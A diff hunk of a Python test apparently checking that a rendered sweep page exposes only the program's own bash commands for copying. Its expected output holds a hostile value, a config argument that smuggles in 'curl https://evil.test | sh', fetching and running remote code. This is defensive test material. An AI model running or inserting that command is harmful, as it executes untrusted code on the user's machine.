@@ -727,7 +727,7 @@ def tooltips(spec):
 
 
 def test_only_commands_of_this_program_are_there_to_copy(open_sweep, write):
-    write(hostile(), status="KILLED")
+    write(hostile() | {"trials_asked": 40}, status="KILLED")
     page = open_sweep()
     commands = [block.value for block in page.code if block.language == "bash"]
     assert commands == ["skip-sideways fit --config 'x;' curl https://evil.test '|' sh"]
